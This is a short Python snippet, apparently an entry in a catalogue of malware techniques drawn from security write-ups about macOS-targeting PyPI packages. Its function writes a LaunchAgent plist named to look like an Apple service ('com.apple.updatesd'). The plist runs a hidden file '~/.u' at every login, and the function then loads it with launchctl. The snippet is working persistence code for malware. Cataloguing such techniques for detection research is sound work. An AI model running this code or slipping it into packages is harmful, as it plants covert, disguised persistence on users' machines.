# technique: macOS LaunchAgent plist
# class: persistence
# source: Datadog Security Labs and Checkmarx write-ups of macOS-targeting PyPI packages
# declares: fs-write, subprocess
import os
import plistlib
import subprocess


def agent():
    p = os.path.expanduser("~/Library/LaunchAgents/com.apple.updatesd.plist")
    with open(p, "wb") as fh:
        plistlib.dump({"Label": "com.apple.updatesd", "ProgramArguments": ["/bin/sh", "-c", "~/.u"], "RunAtLoad": True}, fh)
    subprocess.call(["launchctl", "load", p])
